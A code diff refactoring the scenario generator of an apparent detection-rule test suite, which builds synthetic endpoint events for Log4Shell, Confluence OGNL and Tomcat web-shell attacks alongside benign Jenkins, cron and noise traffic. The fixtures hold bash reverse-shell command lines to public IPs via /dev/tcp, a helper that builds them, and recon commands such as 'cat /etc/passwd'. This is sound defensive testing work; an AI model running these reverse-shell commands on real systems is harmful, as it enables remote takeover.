@@ -4,236 +4,266 @@
 checks the committed files are exactly this output. The ``expected.ndjson`` files are written by hand: they
 are what each scenario asserts (the rules' semantics, DESIGN §1 and §3), never generated from a run.
 Event ids are unique across scenarios, so scenarios can be replayed one after another into one worker.
+
+Each scenario is data: per host, its connections (``Conn``) and process starts (``Exec``), at milliseconds
+after ``T0``. The command lines and parent processes that recur are the constants and helpers below.
 """
 
 from __future__ import annotations
 
 import random
 import sys
-from collections.abc import Callable
+from dataclasses import dataclass
 from pathlib import Path
 from typing import Any
 
 import orjson
 
-from shellwatch.samples.ecs_factory import connection, execution
+from shellwatch.samples.ecs_factory import JAVA, connection, execution
 
 __all__ = ["SCENARIOS", "SCENARIO_DIR", "build_all"]
 
 SCENARIO_DIR = Path(__file__).parent / "scenarios"
-JAVA17 = "/usr/lib/jvm/java-17-openjdk-amd64/bin/java"
-T0 = 1_793_527_200_000  # 2026-10-31T08:40:00Z
+T0 = 1_793_527_200_000  # 2026-11-01T10:00:00Z
 Doc = dict[str, Any]
 
-
-def _ordered(docs: list[Doc]) -> list[Doc]:
-    """Time order (stable), as one endpoint writes its events."""
-    return sorted(docs, key=lambda d: str(d["@timestamp"]))
+# ------------------------------------------------------------------------------- command lines
 
 
-def log4shell_callback() -> tuple[str, list[Doc]]:
-    host = "l4s-web-01"
-    app = [JAVA17, "-Xmx2g", "-jar", "/opt/vuln-app/app.jar"]
-    docs = [
-        execution(
-            ts_ms=T0 - 60_000,
-            host_id=host,
-            pid=880,
-            parent_pid=1,
-            event_id="l4s-cron",
-            name="sh",
-            args=["/bin/sh", "-c", "run-parts /etc/cron.hourly"],
-            parent_executable="/usr/sbin/cron",
-            parent_args=["/usr/sbin/cron", "-f"],
-        ),
-        connection(ts_ms=T0, host_id=host, pid=4100, dest_ip="45.137.21.9", dest_port=1389, event_id="l4s-conn-ldap"),
-        connection(
-            ts_ms=T0 + 1_200, host_id=host, pid=4100, dest_ip="45.137.21.9", dest_port=8080, event_id="l4s-conn-http"
-        ),
-        execution(
-            ts_ms=T0 + 2_000,
-            host_id=host,
-            pid=4177,
-            parent_pid=4100,
-            event_id="l4s-exec-revshell",
-            name="bash",
-            args=["/bin/bash", "-c", "bash -i >& /dev/tcp/45.137.21.9/4444 0>&1"],
-            parent_args=app,
-        ),
-    ]
-    return "Log4Shell-style callback: Java -jar fetches over LDAP then HTTP, then bash -i to the attacker", docs
+@dataclass(frozen=True, slots=True)
+class Parent:
+    """The process that starts a child: its executable and command line."""
+
+    executable: str
+    args: list[str]
 
 
-def confluence_ognl() -> tuple[str, list[Doc]]:
-    host = "conf-wiki-01"
-    java = "/opt/atlassian/confluence/jre/bin/java"
-    args = [java, "-Djava.util.logging.config.file=/opt/atlassian/confluence/conf/logging.properties",
-            "-classpath", "/opt/atlassian/confluence/bin/bootstrap.jar",
-            "org.apache.catalina.startup.Bootstrap", "start"]  # fmt: skip
-    docs = [
-        connection(
-            ts_ms=T0 + 10_000,
-            host_id=host,
-            pid=2210,
-            dest_ip="185.220.101.42",
-            dest_port=8090,
-            event_id="conf-conn-ognl",
-            executable=java,
-            action="connection_accepted",
-        ),
-        execution(
-            ts_ms=T0 + 10_400,
-            host_id=host,
-            pid=2301,
-            parent_pid=2210,
-            event_id="conf-exec-whoami",
-            name="whoami",
-            args=["/usr/bin/whoami"],
-            parent_executable=java,
-            parent_args=args,
-        ),
-        execution(
-            ts_ms=T0 + 11_000,
-            host_id=host,
-            pid=2302,
-            parent_pid=2210,
-            event_id="conf-exec-uname",
-            name="sh",
-            args=["/bin/sh", "-c", "uname -a"],
-            parent_executable=java,
-            parent_args=args,
-        ),
-        execution(
-            ts_ms=T0 + 14_000,
-            host_id=host,
-            pid=2303,
-            parent_pid=2210,
-            event_id="conf-exec-revshell",
-            name="bash",
-            args=["/bin/bash", "-c", "bash -i >& /dev/tcp/185.220.101.42/443 0>&1"],
-            parent_executable=java,
-            parent_args=args,
-        ),
-    ]
-    return "Confluence OGNL RCE (Tomcat bootstrap, no -jar): recon, then a reverse shell", docs
+def java(*args: str) -> Parent:
+    return Parent(JAVA, [JAVA, *args])
 
 
-def tomcat_webshell_recon() -> tuple[str, list[Doc]]:
-    host = "tomcat-app-07"
-    args = [JAVA17, "-Dcatalina.base=/var/lib/tomcat9", "-classpath", "/usr/share/tomcat9/bin/bootstrap.jar",
-            "org.apache.catalina.startup.Bootstrap", "start"]  # fmt: skip
-    steps = [
-        ("tc-exec-id", "sh", ["/bin/sh", "-c", "id"]),
-        ("tc-exec-id-again", "sh", ["/bin/sh", "-c", "id"]),  # same command again: grouped into the first
-        ("tc-exec-whoami", "whoami", ["/usr/bin/whoami"]),
-        ("tc-exec-uname", "uname", ["/usr/bin/uname", "-a"]),
-        ("tc-exec-passwd", "sh", ["/bin/sh", "-c", "cat /etc/passwd"]),
-    ]
-    docs = [
-        connection(
-            ts_ms=T0 + 20_000,
+def tomcat_bootstrap(executable: str, base_option: str, bootstrap_jar: str) -> Parent:
+    """A Tomcat started by its bootstrap class (no ``-jar``)."""
+    bootstrap = ["-classpath", bootstrap_jar, "org.apache.catalina.startup.Bootstrap", "start"]
+    return Parent(executable, [executable, base_option, *bootstrap])
+
+
+def sh(command: str) -> list[str]:
+    return ["/bin/sh", "-c", command]
+
+
+def reverse_shell(ip: str, port: int) -> list[str]:
+    return ["/bin/bash", "-c", f"bash -i >& /dev/tcp/{ip}/{port} 0>&1"]
+
+
+CRON = Parent("/usr/sbin/cron", ["/usr/sbin/cron", "-f"])
+CRON_HOURLY = sh("run-parts /etc/cron.hourly")
+SSHD = "/usr/sbin/sshd"
+SSH_SESSION = Parent(SSHD, ["sshd: deploy@pts/0"])
+PYTHON = "/usr/bin/python3.11"
+WHOAMI = ["/usr/bin/whoami"]
+
+# ------------------------------------------------------------------------------------- events
+
+
+@dataclass(frozen=True, slots=True)
+class Conn:
+    """A network connection by ``executable`` (pid ``pid``), ``ms`` after ``T0``."""
+
+    ms: int
+    pid: int
+    ip: str
+    port: int
+    event_id: str
+    executable: str = JAVA
+    action: str = "connection_attempted"
+
+    def doc(self, host: str) -> Doc:
+        return connection(
+            ts_ms=T0 + self.ms,
             host_id=host,
-            pid=3001,
-            dest_ip="91.240.118.172",
-            dest_port=8080,
-            event_id="tc-conn-webshell",
-            action="connection_accepted",
+            pid=self.pid,
+            dest_ip=self.ip,
+            dest_port=self.port,
+            event_id=self.event_id,
+            executable=self.executable,
+            action=self.action,
         )
-    ]
-    for index, (event_id, name, child) in enumerate(steps):
-        docs.append(
-            execution(
-                ts_ms=T0 + 21_000 + index * 1_500,
-                host_id=host,
-                pid=3100 + index,
-                parent_pid=3001,
-                event_id=event_id,
-                name=name,
-                args=child,
-                parent_args=args,
-            )
-        )
-    return "Tomcat web shell doing recon (id twice, whoami, uname, cat /etc/passwd)", docs
 
 
-def jenkins_build_shells() -> tuple[str, list[Doc]]:
-    host = "jenkins-ci-02"
-    args = [JAVA17, "-Djava.awt.headless=true", "-jar", "/usr/share/java/jenkins.war", "--httpPort=8080"]
-    docs = [
-        connection(
-            ts_ms=T0 + 30_000, host_id=host, pid=1500, dest_ip="140.82.112.3", dest_port=443, event_id="jk-conn-github"
-        )
-    ]
-    builds = [
-        ("jk-exec-build", ["/bin/sh", "-xe", "/tmp/jenkins8123.sh"]),
-        ("jk-exec-mvn", ["/bin/sh", "-c", "mvn -B package"]),
-        ("jk-exec-ls", ["/bin/sh", "-c", "ls -la target"]),
-    ]
-    for index, (event_id, child) in enumerate(builds):
-        docs.append(
-            execution(
-                ts_ms=T0 + 31_000 + index * 700,
-                host_id=host,
-                pid=1600 + index,
-                parent_pid=1500,
-                event_id=event_id,
-                name="sh",
-                args=child,
-                parent_args=args,
-            )
-        )
-    return "Jenkins build shells right after a fetch from a public address: benign and allowlisted", docs
+@dataclass(frozen=True, slots=True)
+class Exec:
+    """Process ``pid`` (``name``, command line ``args``) started by ``parent`` (``parent_pid``), ``ms`` after ``T0``."""
 
+    ms: int
+    pid: int
+    parent_pid: int
+    event_id: str
+    name: str
+    args: list[str]
+    parent: Parent
 
-def private_only() -> tuple[str, list[Doc]]:
-    host = "batch-svc-03"
-    docs = [
-        connection(ts_ms=T0 + 40_000, host_id=host, pid=5100, dest_ip="10.1.2.3", dest_port=5432, event_id="pv-db"),
-        connection(ts_ms=T0 + 40_500, host_id=host, pid=5100, dest_ip="192.168.7.20", dest_port=80, event_id="pv-api"),
-        execution(
-            ts_ms=T0 + 41_000,
+    def doc(self, host: str) -> Doc:
+        return execution(
+            ts_ms=T0 + self.ms,
             host_id=host,
-            pid=5177,
-            parent_pid=5100,
-            event_id="pv-exec-rotate",
-            name="sh",
-            args=["/bin/sh", "-c", "/opt/batch/bin/rotate-logs.sh"],
-            parent_args=[JAVA17, "-jar", "/opt/batch/batch.jar"],
-        ),
+            pid=self.pid,
+            parent_pid=self.parent_pid,
+            event_id=self.event_id,
+            name=self.name,
+            args=self.args,
+            parent_executable=self.parent.executable,
+            parent_args=self.parent.args,
+        )
+
+
+Event = Conn | Exec
+
+
+def children(
+    parent: Parent,
+    parent_pid: int,
+    steps: list[tuple[str, str, list[str]]],
+    *,
+    start_ms: int,
+    every_ms: int,
+    first_pid: int,
+) -> list[Event]:
+    """A child process per ``(event_id, name, args)`` step, ``every_ms`` apart, pids counting up from ``first_pid``."""
+    return [
+        Exec(start_ms + index * every_ms, first_pid + index, parent_pid, event_id, name, args, parent)
+        for index, (event_id, name, args) in enumerate(steps)
     ]
-    return "Java -jar talks only to private addresses, then runs a shell: sequence silent, shell rule low", docs
 
 
-def gap_5001ms() -> tuple[str, list[Doc]]:
-    docs: list[Doc] = []
-    for host, gap_ms, tag in (("gap-late-01", 5_001, "late"), ("gap-edge-01", 5_000, "edge")):
-        docs.append(
-            connection(ts_ms=T0 + 50_000, host_id=host, pid=6100, dest_ip="23.94.5.133", event_id=f"gap-{tag}-conn")
-        )
-        docs.append(
-            execution(
-                ts_ms=T0 + 50_000 + gap_ms,
-                host_id=host,
-                pid=6177,
-                parent_pid=6100,
-                event_id=f"gap-{tag}-exec",
-                name="sh",
-                args=["/bin/sh", "-c", "/opt/app/bin/healthcheck.sh"],
-                parent_args=[JAVA17, "-jar", "/opt/app/app.jar"],
-            )
-        )
-    return "Connection and shell 5.001 s apart (no sequence) beside a 5.000 s pair on another host (sequence)", docs
+@dataclass(frozen=True, slots=True)
+class Scenario:
+    description: str
+    hosts: dict[str, list[Event]]  # each host's events, in the order its endpoint wrote them
+
+    def docs(self) -> list[Doc]:
+        return [event.doc(host) for host, events in self.hosts.items() for event in events]
 
 
-_BENIGN_SERVICES = ["/usr/sbin/nginx", "/usr/sbin/sshd", "/usr/bin/python3.11", "/usr/lib/postgresql/15/bin/postgres"]
+# ---------------------------------------------------------------------------------- scenarios
+
+LOG4SHELL_APP = java("-Xmx2g", "-jar", "/opt/vuln-app/app.jar")
+LOG4SHELL_CALLBACK = Scenario(
+    "Log4Shell-style callback: Java -jar fetches over LDAP then HTTP, then bash -i to the attacker",
+    {
+        "l4s-web-01": [
+            Exec(-60_000, 880, 1, "l4s-cron", "sh", CRON_HOURLY, CRON),
+            Conn(0, 4100, "45.137.21.9", 1389, "l4s-conn-ldap"),
+            Conn(1_200, 4100, "45.137.21.9", 8080, "l4s-conn-http"),
+            Exec(2_000, 4177, 4100, "l4s-exec-revshell", "bash", reverse_shell("45.137.21.9", 4444), LOG4SHELL_APP),
+        ],
+    },
+)
+
+CONFLUENCE = tomcat_bootstrap(
+    "/opt/atlassian/confluence/jre/bin/java",
+    "-Djava.util.logging.config.file=/opt/atlassian/confluence/conf/logging.properties",
+    "/opt/atlassian/confluence/bin/bootstrap.jar",
+)
+CONFLUENCE_OGNL = Scenario(
+    "Confluence OGNL RCE (Tomcat bootstrap, no -jar): recon, then a reverse shell",
+    {
+        "conf-wiki-01": [
+            Conn(10_000, 2210, "185.220.101.42", 8090, "conf-conn-ognl", CONFLUENCE.executable, "connection_accepted"),
+            Exec(10_400, 2301, 2210, "conf-exec-whoami", "whoami", WHOAMI, CONFLUENCE),
+            Exec(11_000, 2302, 2210, "conf-exec-uname", "sh", sh("uname -a"), CONFLUENCE),
+            Exec(14_000, 2303, 2210, "conf-exec-revshell", "bash", reverse_shell("185.220.101.42", 443), CONFLUENCE),
+        ],
+    },
+)
+
+TOMCAT = tomcat_bootstrap(JAVA, "-Dcatalina.base=/var/lib/tomcat9", "/usr/share/tomcat9/bin/bootstrap.jar")
+TOMCAT_WEBSHELL_RECON = Scenario(
+    "Tomcat web shell doing recon (id twice, whoami, uname, cat /etc/passwd)",
+    {
+        "tomcat-app-07": [
+            Conn(20_000, 3001, "91.240.118.172", 8080, "tc-conn-webshell", action="connection_accepted"),
+            *children(
+                TOMCAT,
+                3001,
+                [
+                    ("tc-exec-id", "sh", sh("id")),
+                    ("tc-exec-id-again", "sh", sh("id")),  # same command again: grouped into the first
+                    ("tc-exec-whoami", "whoami", WHOAMI),
+                    ("tc-exec-uname", "uname", ["/usr/bin/uname", "-a"]),
+                    ("tc-exec-passwd", "sh", sh("cat /etc/passwd")),
+                ],
+                start_ms=21_000,
+                every_ms=1_500,
+                first_pid=3100,
+            ),
+        ],
+    },
+)
+
+JENKINS = java("-Djava.awt.headless=true", "-jar", "/usr/share/java/jenkins.war", "--httpPort=8080")
+JENKINS_BUILD_SHELLS = Scenario(
+    "Jenkins build shells right after a fetch from a public address: benign and allowlisted",
+    {
+        "jenkins-ci-02": [
+            Conn(30_000, 1500, "140.82.112.3", 443, "jk-conn-github"),
+            *children(
+                JENKINS,
+                1500,
+                [
+                    ("jk-exec-build", "sh", ["/bin/sh", "-xe", "/tmp/jenkins8123.sh"]),
+                    ("jk-exec-mvn", "sh", sh("mvn -B package")),
+                    ("jk-exec-ls", "sh", sh("ls -la target")),
+                ],
+                start_ms=31_000,
+                every_ms=700,
+                first_pid=1600,
+            ),
+        ],
+    },
+)
+
+BATCH = java("-jar", "/opt/batch/batch.jar")
+PRIVATE_ONLY = Scenario(
+    "Java -jar talks only to private addresses, then runs a shell: sequence silent, shell rule low",
+    {
+        "batch-svc-03": [
+            Conn(40_000, 5100, "10.1.2.3", 5432, "pv-db"),
+            Conn(40_500, 5100, "192.168.7.20", 80, "pv-api"),
+            Exec(41_000, 5177, 5100, "pv-exec-rotate", "sh", sh("/opt/batch/bin/rotate-logs.sh"), BATCH),
+        ],
+    },
+)
+
+APP = java("-jar", "/opt/app/app.jar")
 
 
-def benign_noise() -> tuple[str, list[Doc]]:
+def gap_pair(gap_ms: int, tag: str) -> list[Event]:
+    """A Java connection, then a shell ``gap_ms`` later (the reverse-shell rule's maxspan is 5 s)."""
+    return [
+        Conn(50_000, 6100, "23.94.5.133", 4444, f"gap-{tag}-conn"),
+        Exec(50_000 + gap_ms, 6177, 6100, f"gap-{tag}-exec", "sh", sh("/opt/app/bin/healthcheck.sh"), APP),
+    ]
+
+
+GAP_5001MS = Scenario(
+    "Connection and shell 5.001 s apart (no sequence) beside a 5.000 s pair on another host (sequence)",
+    {"gap-late-01": gap_pair(5_001, "late"), "gap-edge-01": gap_pair(5_000, "edge")},
+)
+
+BENIGN_SERVICES = ["/usr/sbin/nginx", SSHD, PYTHON, "/usr/lib/postgresql/15/bin/postgres"]
+REPORT = [PYTHON, "/opt/tools/report.py"]
+
+
+def benign_noise() -> Scenario:
+    """50 hosts x 20 events drawn from a seeded generator: services' and Java's connections, cron and ssh jobs."""
     rng = random.Random(50)
-    docs: list[Doc] = []
+    hosts: dict[str, list[Event]] = {}
     for number in range(50):
         host = f"noise-{number:02d}"
-        clock = T0 + 60_000 + rng.randrange(0, 1_000)
+        events: list[Event] = []
+        hosts[host] = events
+        clock = 60_000 + rng.randrange(0, 1_000)
         for index in range(20):
             clock += rng.randrange(40, 700)
             event_id = f"{host}-{index:02d}"
@@ -242,59 +272,40 @@ def benign_noise() -> tuple[str, list[Doc]]:
                 f"{rng.choice([34, 52, 104, 151])}.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"
             )
             if roll < 0.35:
-                exe = rng.choice(_BENIGN_SERVICES)
-                docs.append(connection(ts_ms=clock, host_id=host, pid=700, dest_ip=public_ip, event_id=event_id,
-                                       executable=exe, dest_port=443))  # fmt: skip
+                events.append(Conn(clock, 700, public_ip, 443, event_id, rng.choice(BENIGN_SERVICES)))
             elif roll < 0.55:
                 # Java fetching from a public address, and never spawning anything: a pending first stage only
-                docs.append(connection(ts_ms=clock, host_id=host, pid=4242, dest_ip=public_ip, event_id=event_id,
-                                       dest_port=443))  # fmt: skip
+                events.append(Conn(clock, 4242, public_ip, 443, event_id))
             elif roll < 0.8:
-                docs.append(
-                    execution(
-                        ts_ms=clock,
-                        host_id=host,
-                        pid=9000 + index,
-                        parent_pid=880,
-                        event_id=event_id,
-                        name="sh",
-                        args=["/bin/sh", "-c", "run-parts /etc/cron.hourly"],
-                        parent_executable="/usr/sbin/cron",
-                        parent_args=["/usr/sbin/cron", "-f"],
-                    )
-                )
+                events.append(Exec(clock, 9000 + index, 880, event_id, "sh", CRON_HOURLY, CRON))
             else:
-                docs.append(
-                    execution(
-                        ts_ms=clock,
-                        host_id=host,
-                        pid=9000 + index,
-                        parent_pid=700,
-                        event_id=event_id,
-                        name="python3.11",
-                        args=["/usr/bin/python3.11", "/opt/tools/report.py"],
-                        parent_executable="/usr/sbin/sshd",
-                        parent_args=["sshd: deploy@pts/0"],
-                    )
-                )
-    return "50 hosts of benign noise (services, Java fetching from public addresses, cron shells): no alert", docs
+                events.append(Exec(clock, 9000 + index, 700, event_id, "python3.11", REPORT, SSH_SESSION))
+    return Scenario(
+        "50 hosts of benign noise (services, Java fetching from public addresses, cron shells): no alert", hosts
+    )
 
 
-SCENARIOS: dict[str, Callable[[], tuple[str, list[Doc]]]] = {
-    "log4shell-callback": log4shell_callback,
-    "confluence-ognl": confluence_ognl,
-    "tomcat-webshell-recon": tomcat_webshell_recon,
-    "jenkins-build-shells": jenkins_build_shells,
-    "private-only": private_only,
-    "gap-5001ms": gap_5001ms,
-    "benign-noise-50-hosts": benign_noise,
+SCENARIOS: dict[str, Scenario] = {
+    "log4shell-callback": LOG4SHELL_CALLBACK,
+    "confluence-ognl": CONFLUENCE_OGNL,
+    "tomcat-webshell-recon": TOMCAT_WEBSHELL_RECON,
+    "jenkins-build-shells": JENKINS_BUILD_SHELLS,
+    "private-only": PRIVATE_ONLY,
+    "gap-5001ms": GAP_5001MS,
+    "benign-noise-50-hosts": benign_noise(),
 }
+
+
+def _ordered(docs: list[Doc]) -> list[Doc]:
+    """Time order (stable), as one endpoint writes its events."""
+    return sorted(docs, key=lambda d: str(d["@timestamp"]))
 
 
 def rendered(name: str) -> tuple[bytes, bytes]:
     """(description.txt, events.ndjson) of a scenario, as committed."""
-    description, docs = SCENARIOS[name]()
-    return description.encode() + b"\n", b"".join(orjson.dumps(doc) + b"\n" for doc in _ordered(docs))
+    scenario = SCENARIOS[name]
+    events = b"".join(orjson.dumps(doc) + b"\n" for doc in _ordered(scenario.docs()))
+    return scenario.description.encode() + b"\n", events
 
 
 def build_all() -> None:
